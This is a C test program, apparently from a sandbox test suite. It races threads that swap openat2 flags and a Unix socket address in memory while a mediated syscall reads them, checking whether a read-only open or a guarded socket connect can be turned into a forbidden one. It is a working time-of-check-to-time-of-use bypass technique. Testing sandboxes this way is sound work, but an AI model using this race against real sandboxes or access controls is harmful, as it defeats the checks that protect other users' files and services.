/* Structures in memory that change while a call reads them: memory WHAT CLOSED SECONDS.
 * how-flags: an openat2 that reads, and an openat2 that truncates. address: a connect to a socket of the run's own, and
 * to CLOSED, which greets with the secret. */
#include "attack.h"

static uint64_t how[3];
static struct sockaddr_un address, addresses[2];
static int listener;

static void *flip_flags(void *unused) {
    for (unsigned i = 0; !stop; i++) {
        *(volatile uint64_t *)how = i & 1 ? O_WRONLY | O_TRUNC : O_RDONLY;
        for (volatile int pause = 0; pause < (int)(i % 97); pause++) {}
    }
    return unused;
}
static void open_how(void) {
    int fd = syscall(SYS_openat2, AT_FDCWD, closed, how, sizeof how);
    count(fd);
    if (fd >= 0 && (fcntl(fd, F_GETFL) & O_ACCMODE) != O_RDONLY) reached();
    close(fd);
}

static void *greet(void *unused) {
    for (;;) {
        int peer = accept(listener, NULL, NULL);
        if (peer < 0) return unused;
        if (write(peer, "own", 3) < 0) refused++;
        close(peer);
    }
}
static void *flip_address(void *unused) {
    for (unsigned i = 0; !stop; i++) {
        memcpy(&address, &addresses[i & 1], sizeof address);
        for (volatile int pause = 0; pause < (int)(i % 97); pause++) {}
    }
    return unused;
}
static void connect_it(void) {
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&address, sizeof address) == 0) {
        look(s);
    } else {
        refused++;
        close(s);
    }
}
static int attack_address(const char *shut, double seconds) {
    pthread_t thread;
    for (int i = 0; i < 2; i++) {
        addresses[i].sun_family = AF_UNIX;
        strncpy(addresses[i].sun_path, i ? shut : "own", sizeof address.sun_path - 1);
    }
    address = addresses[0];
    listener = socket(AF_UNIX, SOCK_STREAM, 0);
    if (bind(listener, (struct sockaddr *)&address, sizeof address) || listen(listener, 100)) return 3;
    pthread_create(&thread, NULL, greet, NULL);
    return attack(seconds, flip_address, connect_it);
}

int main(int argc, char **argv) {
    if (argc != 4) return 2;
    watch(argv[2]);
    if (strcmp(argv[1], "how-flags") == 0) return attack(atof(argv[3]), flip_flags, open_how);
    if (strcmp(argv[1], "address") == 0) return attack_address(argv[2], atof(argv[3]));
    return 2;
}
